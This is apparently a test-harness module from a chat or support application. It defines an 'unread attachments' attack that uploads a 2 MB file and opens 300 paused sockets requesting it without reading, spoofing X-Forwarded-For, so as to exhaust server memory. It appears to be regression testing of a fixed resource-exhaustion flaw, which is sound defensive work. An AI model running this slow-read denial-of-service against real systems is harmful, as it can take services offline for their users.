import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const address = '10.66.0.5';
const readers = 300;

/**
 * Requests a 2 MB file of its own conversation 300 times and reads
 * none. When files were sent whole, this took 1 GB of memory.
 */
export const attack = {
  name: 'unread attachments',
  async run({ base, signal }) {
    const { origin, hostname, port, host } = new URL(base);
    const from = { origin, 'x-forwarded-for': address };
    const begun = await fetch(`${base}/api/conversations`, {
      method: 'POST',
      headers: { ...from, 'content-type': 'application/json' },
      body: JSON.stringify({ customerName: 'A', customerEmail: 'a@visitor.example' }),
    });
    const { conversation } = await begun.json();
    const cookie = begun.headers
      .getSetCookie()
      .map((line) => line.split(';')[0])
      .join('; ');
    const form = new FormData();
    form.set('file', new File(['line of text\n'.repeat(150_000)], 'a.txt', { type: 'text/plain' }));
    const sent = await fetch(`${base}/api/conversations/${conversation.id}/upload`, {
      method: 'POST',
      headers: { ...from, cookie },
      body: form,
    });
    const { fileUrl } = await sent.json();
    const open = new Set();
    for (let count = 0; count < readers && !signal.aborted; count++) {
      const socket = connect(Number(port), hostname);
      open.add(socket.on('error', () => {}).once('close', () => open.delete(socket)));
      await once(socket, 'connect');
      socket.pause();
      socket.write(
        `GET ${fileUrl} HTTP/1.1\r\nHost: ${host}\r\nCookie: ${cookie}\r\nX-Forwarded-For: ${address}\r\n\r\n`,
      );
    }
    await pause(25_000, null, { signal }).catch(() => {});
    // If the program has cut a connection, another byte on it is answered with a reset.
    for (const socket of open) socket.write('x');
    await pause(500);
    const left = open.size;
    for (const socket of open) socket.destroy();
    return `${readers} readers of ${fileUrl ? '1.95 MB' : 'nothing'}, ${left} still served`;
  },
};
